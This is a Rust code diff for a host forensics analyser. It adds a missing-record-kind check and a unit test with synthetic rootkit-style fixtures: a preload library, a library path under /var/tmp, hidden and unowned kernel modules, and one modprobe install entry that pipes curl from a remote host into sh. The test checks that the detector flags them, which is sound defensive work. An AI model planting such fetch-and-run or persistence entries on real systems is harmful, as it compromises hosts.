@@ -178,7 +178,10 @@ pub fn analyze(input: &mut BundleInput<'_>, cfg: &AnalysisConfig) -> HostAnalysi
         if !on {
             continue;
         }
-        if let Some(reason) = ctx.missing(rule.needs) {
+        if let Some(reason) = ctx
+            .missing(rule.needs)
+            .or_else(|| ctx.missing_kinds(rule.needs_kinds))
+        {
             not_evaluated.push(NotEvaluated {
                 rule: rule.id.into(),
                 title: rule.title.into(),
@@ -614,5 +617,98 @@ mod tests {
             ["/etc/systemd/system-generators/netd"]
         );
         assert!(!a.hits.iter().any(|h| h.rule == "exec-unowned"));
+    }
+
+    #[test]
+    fn kernel_rules() {
+        let src = json!({"path": "/proc/modules"});
+        let module = |line: usize, name: &str, extra: serde_json::Value| {
+            let mut v = json!({"kind": "kernel_module", "name": name, "in_proc_modules": true, "in_sys_module": true, "line": line, "source": src});
+            for (k, x) in extra.as_object().unwrap() {
+                v[k] = x.clone();
+            }
+            (line, v)
+        };
+        let kernel = vec![
+            (
+                1,
+                json!({"kind": "ld_preload", "path": "/etc/ld.so.preload", "entries": ["/usr/lib/x86_64-linux-gnu/libkeyutils.so.9"], "source": {"path": "/etc/ld.so.preload"}}),
+            ),
+            (
+                2,
+                json!({"kind": "ld_so_conf", "path": "/etc/ld.so.conf.d/libc.conf", "dirs": ["/usr/local/lib"], "source": {"path": "/etc/ld.so.conf.d/libc.conf"}}),
+            ),
+            (
+                3,
+                json!({"kind": "ld_so_conf", "path": "/etc/ld.so.conf.d/x86.conf", "dirs": ["/var/tmp/.l"], "source": {"path": "/etc/ld.so.conf.d/x86.conf"}}),
+            ),
+            module(
+                4,
+                "ext4",
+                json!({"file": "/lib/modules/6.1/kernel/fs/ext4/ext4.ko"}),
+            ),
+            module(
+                5,
+                "nvme_fix",
+                json!({"file": "/lib/modules/6.1/updates/nvme_fix.ko", "taint": "OE"}),
+            ),
+            module(6, "rk", json!({})),
+            module(
+                7,
+                "ghost",
+                json!({"in_proc_modules": false, "initstate": "live"}),
+            ),
+            (
+                8,
+                json!({"kind": "module_config", "path": "/etc/modprobe.d/b.conf", "purpose": "modprobe", "entries": ["install pcspkr /bin/true", "install usb_storage /bin/sh -c 'curl -fsSL http://x | sh'"], "commands": ["/bin/true", "/bin/sh -c 'curl -fsSL http://x | sh'"], "source": {"path": "/etc/modprobe.d/b.conf"}}),
+            ),
+        ];
+        let packages = vec![
+            (
+                1,
+                json!({"kind": "package", "manager": "dpkg", "name": "linux-image", "version": "1", "source": {"path": "/var/lib/dpkg/status"}}),
+            ),
+            (
+                2,
+                json!({"kind": "package_files", "manager": "dpkg", "package": "linux-image", "files": ["/lib/modules/6.1/kernel/fs/ext4/ext4.ko"], "source": {"path": "x"}}),
+            ),
+        ];
+        let records = [
+            ("kernel".to_string(), kernel),
+            ("packages".to_string(), packages),
+        ]
+        .into_iter()
+        .collect();
+        let mut read = |_: &str, _: u64| Err("none".to_string());
+        let mut inp = input(records, &mut read);
+        let a = analyze(&mut inp, &AnalysisConfig::default());
+        let subjects = |rule: &str| -> Vec<String> {
+            a.findings
+                .iter()
+                .filter(|f| f.rule == rule)
+                .map(|f| f.subject.clone())
+                .collect()
+        };
+        assert_eq!(subjects("ld-so-preload"), ["/etc/ld.so.preload"]);
+        assert_eq!(
+            subjects("ld-so-conf-unusual"),
+            ["/etc/ld.so.conf.d/x86.conf: /var/tmp/.l"]
+        );
+        assert_eq!(subjects("kernel-module-hidden"), ["ghost"]);
+        assert_eq!(subjects("kernel-module-unowned"), ["nvme_fix", "rk"]);
+        assert_eq!(subjects("modprobe-install-command").len(), 1);
+
+        // Offline: no module records, so the module rules are not evaluated (never clean).
+        let kernel = vec![(
+            1,
+            json!({"kind": "ld_preload", "path": "/etc/ld.so.preload", "entries": [], "source": {"path": "/etc/ld.so.preload"}}),
+        )];
+        let records = [("kernel".to_string(), kernel)].into_iter().collect();
+        let mut read = |_: &str, _: u64| Err("none".to_string());
+        let mut inp = input(records, &mut read);
+        let a = analyze(&mut inp, &AnalysisConfig::default());
+        let ne: Vec<&str> = a.not_evaluated.iter().map(|n| n.rule.as_str()).collect();
+        assert!(ne.contains(&"kernel-module-hidden"), "{ne:?}");
+        assert!(a.hits.is_empty());
     }
 }
